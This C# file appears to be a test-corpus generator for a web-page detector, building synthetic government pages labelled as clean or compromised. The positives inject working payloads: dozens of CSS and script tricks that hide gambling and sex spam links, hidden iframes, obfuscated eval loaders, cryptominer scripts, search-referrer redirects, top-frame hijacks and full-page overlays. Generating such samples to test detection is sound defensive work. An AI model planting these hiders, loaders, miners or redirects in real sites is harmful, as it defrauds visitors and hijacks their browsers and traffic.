using System.Globalization;
using System.Text;
using GovGuard.Detection.Findings;
using static GovGuard.Detection.Tests.Corpus.Pages.GovPages;

namespace GovGuard.Detection.Tests.Corpus.Pages;

/// <summary>One labelled page: HTML, the external CSS fetched with it, and the categories it should raise.</summary>
internal sealed record PageSample(string Name, string Html, string[] Css, string[] Expected);

/// <summary>
/// Generates the labelled corpus of single pages with a seeded Random: government pages carrying a random mix of the
/// legitimate hiders and scripts of <see cref="GovPages.Benign"/>, with one hidden-link or malicious-script technique
/// injected into the positives; the negatives carry only the legitimate mix.
/// </summary>
internal static class PageCorpus
{
    private static readonly string[] SpamAnchors =
    [
        "澳门新葡京", "百家乐真人荷官", "网上赌场", "六合彩一码中特", "重庆时时彩", "北京赛车pk10", "代开各地发票", "办假证刻假章",
        "同城约炮", "外围女包夜", "刷单返利日赚千元", "黑户贷款秒批", "皇冠体育足球投注", "炸金花棋牌", "色情直播",
    ];

    private static readonly string[] NeutralAnchors = ["点击这里", "网站建设", "优化推广", "更多信息", "官方网站", "免费下载"];

    private static readonly string[] RiskyTlds = ["xyz", "top", "vip", "cc", "bet", "tk", "icu", "club", "win", "site"];

    private static string SpamHost(Random rnd)
    {
        const string letters = "abcdefghijklmnopqrstuvwxyz";
        const string consonants = "bcdfghjklmnpqrstvwxz";
        return rnd.Next(4) switch
        {
            0 => $"www.{consonants[rnd.Next(20)]}{consonants[rnd.Next(20)]}{consonants[rnd.Next(20)]}{rnd.Next(100, 9999)}.{RiskyTlds[rnd.Next(RiskyTlds.Length)]}",
            1 => $"{new string(Enumerable.Range(0, 8).Select(_ => letters[rnd.Next(26)]).ToArray())}{rnd.Next(10, 99)}.com",
            2 => $"www.{rnd.Next(10000, 99999)}.{RiskyTlds[rnd.Next(RiskyTlds.Length)]}",
            _ => $"xpj{rnd.Next(100, 999)}{consonants[rnd.Next(20)]}{consonants[rnd.Next(20)]}.{RiskyTlds[rnd.Next(RiskyTlds.Length)]}",
        };
    }

    private static string SpamLinks(Random rnd, int count, bool spamText = true)
    {
        var sb = new StringBuilder();
        for (int i = 0; i < count; i++)
        {
            var text = spamText ? SpamAnchors[rnd.Next(SpamAnchors.Length)] : NeutralAnchors[rnd.Next(NeutralAnchors.Length)];
            sb.Append(CultureInfo.InvariantCulture, $"<a href=\"http://{SpamHost(rnd)}/\">{text}</a> ");
        }

        return sb.ToString();
    }

    /// <summary>Hidden-link techniques: (name, head, body, external CSS).</summary>
    private static readonly Func<Random, (string Name, string Head, string Body, string Css)>[] DarkLinks =
    [
        r => ("display-none-inline", "", $"<div style=\"display:none\">{SpamLinks(r, r.Next(1, 8))}</div>", ""),
        r => ("display-none-sheet", "<style>.lk8{display:none}</style>", $"<div class=\"lk8\">{SpamLinks(r, r.Next(2, 8))}</div>", ""),
        r => ("display-none-external-css", "", $"<div id=\"f{r.Next(10, 99)}\" class=\"ft-links\">{SpamLinks(r, r.Next(2, 6))}</div>", ".ft-links { display: none !important; }"),
        r => ("hidden-attribute", "", $"<p hidden>{SpamLinks(r, r.Next(1, 5))}</p>", ""),
        r => ("visibility-hidden", "", $"<div style=\"visibility: hidden; height: 0\"><span>{SpamLinks(r, r.Next(1, 6))}</span></div>", ""),
        r => ("opacity", "<style>#op{opacity:0;filter:alpha(opacity=0)}</style>", $"<div id=\"op\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("offscreen-self", "", $"<a href=\"http://{SpamHost(r)}/\" style=\"position:absolute;left:-9999px;top:-9999px\">{NeutralAnchors[r.Next(NeutralAnchors.Length)]}</a>", ""),
        r => ("offscreen-ancestor", "", $"<div style=\"position:absolute; top:-{r.Next(1000, 9000)}px\"><ul><li>{SpamLinks(r, r.Next(1, 6))}</li></ul></div>", ""),
        r => ("offscreen-sheet", "<style>\n.hd { position: absolute; left: -3000em; }\n</style>", $"<span class=\"hd\">{SpamLinks(r, r.Next(1, 6), r.Next(2) == 0)}</span>", ""),
        r => ("zero-size", "", $"<div style=\"width:0;height:0;overflow:hidden\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("one-pixel", "", $"<div style=\"width:1px;height:1px;overflow:hidden\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("overflow-sliver", "", $"<div style=\"height:3px;overflow:hidden;line-height:30px\"><br>{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("tiny-font", "", $"<div style=\"font-size:0px;line-height:0\">{SpamLinks(r, r.Next(1, 6), r.Next(2) == 0)}</div>", ""),
        r => ("font-tag-size", "", $"<p style=\"font-size:1px\">{SpamLinks(r, r.Next(1, 6), r.Next(2) == 0)}</p>", ""),
        r => ("text-indent", "", $"<div style=\"text-indent:-9999px;overflow:hidden\">{SpamLinks(r, r.Next(1, 6), r.Next(2) == 0)}</div>", ""),
        r => ("clip", "", $"<div style=\"position:absolute;clip:rect(1px 1px 1px 1px)\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("clip-path", "", $"<div style=\"clip-path: inset(50%)\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("colour", "", $"<div style=\"background:#ffffff\"><a style=\"color:#fefefe\" href=\"http://{SpamHost(r)}/\">{SpamAnchors[r.Next(SpamAnchors.Length)]}</a></div>", ""),
        r => ("font-colour", "", $"<font color=\"#FFFFFF\">{SpamLinks(r, r.Next(1, 6), r.Next(2) == 0)}</font>", ""),
        r => ("marquee", "", $"<marquee height=\"1\" width=\"1\" scrollamount=\"3000\">{SpamLinks(r, r.Next(1, 6))}</marquee>", ""),
        r => ("marquee-style", "", $"<marquee style=\"height:2px;width:2px\">{SpamLinks(r, r.Next(1, 6))}</marquee>", ""),
        r => ("transform", "", $"<div style=\"transform: translateX(-20000px)\">{SpamLinks(r, r.Next(1, 6))}</div>", ""),
        r => ("document-write", "", $"<script>document.write('<div style=\"display:none\">{SpamLinks(r, r.Next(1, 6)).Replace("\"", "\\\"", StringComparison.Ordinal)}</div>');</script>", ""),
        r => ("document-write-split", "", $"<script>document.writeln(\"<a hr\"+\"ef='http://{SpamHost(r)}/'>{SpamAnchors[r.Next(SpamAnchors.Length)]}</\"+\"a>\");</script>", ""),
        r => ("inner-html", "", $"<div id=\"x9\"></div><script>document.getElementById('x9').innerHTML = '<span style=\"font-size:0\">{SpamLinks(r, r.Next(1, 4)).Replace("\"", "\\\"", StringComparison.Ordinal)}</span>';</script>", ""),
        r => ("noscript", "", $"<noscript>{SpamLinks(r, r.Next(1, 6))}</noscript>", ""),
        r =>
        {
            var id = "lk" + r.Next(10, 99).ToString(CultureInfo.InvariantCulture);
            var hide = r.Next(2) == 0 ? $"document.getElementById('{id}').style.display = 'none';" : $"$('#{id}').hide();";
            return ("script-hidden-by-id", "", $"<div id=\"{id}\">{SpamLinks(r, r.Next(1, 6))}</div><script>{hide}</script>", "");
        },
        r => ("ancestor-sheet-deep", "<style>div.sidebar > .box .inner { display: none }</style>", $"<div class=\"sidebar\"><div class=\"box\"><div class=\"inner\"><p>{SpamLinks(r, r.Next(1, 6))}</p></div></div></div>", ""),
    ];

    /// <summary>Malicious-script techniques: (name, head, body).</summary>
    private static readonly Func<Random, (string Name, string Head, string Body)>[] Scripts =
    [
        r => ("hidden-iframe-zero", "", $"<iframe src=\"http://{SpamHost(r)}/index.html\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>"),
        r => ("hidden-iframe-one", "", $"<iframe src=\"http://{SpamHost(r)}/a.htm\" width=1 height=1 style=\"border:0\"></iframe>"),
        r => ("hidden-iframe-css", "", $"<iframe src=\"//{SpamHost(r)}/\" style=\"display:none\"></iframe>"),
        r => ("hidden-iframe-ancestor", "<style>.ad9{position:absolute;left:-5000px}</style>", $"<div class=\"ad9\"><iframe src=\"http://{SpamHost(r)}/\" width=\"300\" height=\"250\"></iframe></div>"),
        r => ("written-iframe", "", $"<script>document.write('<iframe src=\"http://{SpamHost(r)}/\" width=\"0\" height=\"0\"></iframe>');</script>"),
        r => ("created-iframe", "", $"<script>var f=document.createElement('iframe');f.style.display='none';document.body.appendChild(f);f.outerHTML='<iframe src=\"http://{SpamHost(r)}/x\"></iframe>';</script>"),
        r => ("packer", "", "<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('" + $"3.2(\\'<0 1=\\\"4://{SpamHost(r)}/\\\"></0>\\');" + "',5,5,'iframe|src|write|document|http'.split('|'),0,{}))</script>"),
        r => ("eval-unescape", "", "<script>eval(unescape('" + Percent($"document.write('<script src=\"http://{SpamHost(r)}/j.js\"></'+'script>')") + "'));</script>"),
        r => ("eval-atob", "", "<script>eval(atob('" + Convert.ToBase64String(Encoding.UTF8.GetBytes($"window.location.href='http://{SpamHost(r)}/';")) + "'));</script>"),
        r => ("fromcharcode", "", "<script>var s=String.fromCharCode(" + string.Join(",", $"location.replace('http://{SpamHost(r)}/')".Select(c => ((int)c).ToString(CultureInfo.InvariantCulture))) + ");eval(s);</script>"),
        r => ("hex-obfuscator", "", "<script>" + HexObfuscated(r) + "</script>"),
        r => ("escape-run", "", "<script>var _s=\"" + string.Concat($"<iframe src=http://{SpamHost(r)}/ width=0 height=0></iframe><script src=http://{SpamHost(r)}/>".Select(c => "\\x" + ((int)c).ToString("x2", CultureInfo.InvariantCulture))) + "\";document.write(_s);</script>"),
        r => ("miner-src", "", "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script><script>var miner = new CoinHive.Anonymous('SiteKey" + r.Next(1000, 9999) + "', {throttle: 0.3}); miner.start();</script>"),
        r => ("miner-inline", "", "<script src=\"/js/m.js\"></script><script>var m = new CoinImp.Anonymous('" + r.Next(100000, 999999) + "', {throttle: 0}); m.start();</script>"),
        r => ("miner-cryptoloot", "", "<script src=\"//statdynamic.com/lib/crypta.js\"></script><script src=\"https://crypto-loot.com/lib/miner.min.js\"></script>"),
        r => ("malware-host", "", "<script src=\"https://cdn.polyfill.io/v3/polyfill.min.js?features=default\"></script>"),
        r => ("referrer-redirect", "", $"<script>var r = document.referrer; if (r.indexOf('baidu') > -1 || r.indexOf('sogou') > -1 || r.indexOf('so.com') > -1) {{ window.location.href = 'http://{SpamHost(r)}/'; }}</script>"),
        r => ("referrer-regex", "", $"<script>if (/(baidu|google|bing|sm\\.cn|sogou)/i.test(document.referrer)) {{ location.replace(\"https://{SpamHost(r)}/?from=se\"); }}</script>"),
        r => ("referrer-split", "", $"<script>var d=document['refe'+'rrer'];var e=['bai'+'du','so'+'gou','360'];for(var i=0;i<e.length;i++){{if(d.indexOf(e[i])>0){{document.write('<script src=\"http://{SpamHost(r)}/tj.js\"><\\/script>');}}}}</script>"),
        r => ("referrer-open", "", $"<script>(function(){{var ref=document.referrer.toLowerCase();if(ref.match(/baidu|sogou|youdao|google/)){{window.open('http://{SpamHost(r)}/','_self');}}}})();</script>"),
        r => ("top-hijack", "", $"<script>if (window.top !== window.self) {{}} top.location.href = 'http://{SpamHost(r)}/';</script>"),
        r => ("opener-abuse", "", $"<script>if (window.opener) {{ window.opener.location = 'http://{SpamHost(r)}/login.html'; }}</script>"),
        r => ("overlay-static", "", $"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647\"><a href=\"http://{SpamHost(r)}/\"><img src=\"/u/ad.gif\" alt=\"\"></a></div>"),
        r => ("overlay-script", "", $"<script>var o=document.createElement('div');o.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999';o.innerHTML='<a href=\"http://{SpamHost(r)}/\">.</a>';document.body.appendChild(o);</script>"),
        r => ("meta-refresh", $"<meta http-equiv=\"refresh\" content=\"{r.Next(0, 4)}; url=http://{SpamHost(r)}/\">", ""),
    ];

    public static IReadOnlyList<PageSample> Generate(int seed = 20261201)
    {
        var rnd = new Random(seed);
        var samples = new List<PageSample>();
        for (int round = 0; round < 4; round++)
        {
            foreach (var make in DarkLinks)
            {
                var (name, head, body, css) = make(rnd);
                samples.Add(Build(rnd, $"dark_link/{name}/{round}", head, body, css, [Categories.ContentDarkLink]));
            }

            foreach (var make in Scripts)
            {
                var (name, head, body) = make(rnd);
                // A script that writes a link to another site is also a script-written link.
                string[] expected = name == "overlay-script"
                    ? [Categories.ContentMaliciousScript, Categories.ContentDarkLink]
                    : [Categories.ContentMaliciousScript];
                samples.Add(Build(rnd, $"malicious_script/{name}/{round}", head, body, "", expected));
            }
        }

        // Hard negatives: every legitimate hider and script alone, then random mixes of them.
        foreach (var (name, head, body) in Benign)
        {
            samples.Add(Build(rnd, $"negative/{name}", head, body, "", [], extras: 0));
        }

        for (int n = 0; n < 120; n++)
        {
            samples.Add(Build(rnd, $"negative/mix/{n}", "", "", "", [], extras: rnd.Next(3, 9)));
        }

        return samples;
    }

    private static PageSample Build(Random rnd, string name, string head, string body, string css, string[] expected, int extras = -1)
    {
        int count = extras >= 0 ? extras : rnd.Next(0, 5);
        var picked = Enumerable.Range(0, count).Select(_ => Benign[rnd.Next(Benign.Length)]).DistinctBy(b => b.Name).ToList();
        var h = new StringBuilder("<style>").Append(NavCss).Append("</style>").Append(head);
        var b = new StringBuilder(Nav(rnd)).Append(NewsList(NewsItems(rnd, rnd.Next(5, 12))));
        foreach (var p in picked)
        {
            h.Append(p.Head);
            b.Append(p.Body);
        }

        // The injected technique stands at a random place: before, inside or after the content.
        var article = Article(rnd, rnd.Next(1, 4));
        switch (rnd.Next(3))
        {
            case 0: b.Insert(0, body).Append(article); break;
            case 1: b.Append(body).Append(article); break;
            default: b.Append(article).Append(body); break;
        }

        b.Append(Footer(rnd));
        // The caller fetched the page's main stylesheet (and the technique's own, when it has one).
        string[] sheets = css.Length > 0 ? [MainCss, css] : [MainCss];
        return new PageSample(name, Page(Title(rnd), h.ToString(), b.ToString()), sheets, expected);
    }

    private static string Percent(string s) => string.Concat(s.Select(c => "%" + ((int)c).ToString("X2", CultureInfo.InvariantCulture)));

    private static string HexObfuscated(Random r)
    {
        var names = Enumerable.Range(0, 8).Select(_ => "_0x" + r.Next(0x1000, 0xFFFF).ToString("x4", CultureInfo.InvariantCulture)).ToArray();
        var url = string.Concat($"http://{SpamHost(r)}/".Select(c => "\\x" + ((int)c).ToString("x2", CultureInfo.InvariantCulture)));
        return $"var {names[0]}=['\\x77\\x72\\x69\\x74\\x65','{url}','\\x73\\x63\\x72\\x69\\x70\\x74'];(function({names[1]},{names[2]}){{var {names[3]}=function({names[4]}){{while(--{names[4]}){{{names[1]}['push']({names[1]}['shift']());}}}};{names[3]}(++{names[2]});}}({names[0]},0x1b3));" +
               $"var {names[5]}=function({names[6]},{names[7]}){{{names[6]}={names[6]}-0x0;var {names[4]}={names[0]}[{names[6]}];return {names[4]};}};document[{names[5]}('0x0')]('<'+{names[5]}('0x2')+' src=\"'+{names[5]}('0x1')+'\"></'+{names[5]}('0x2')+'>');";
    }
}
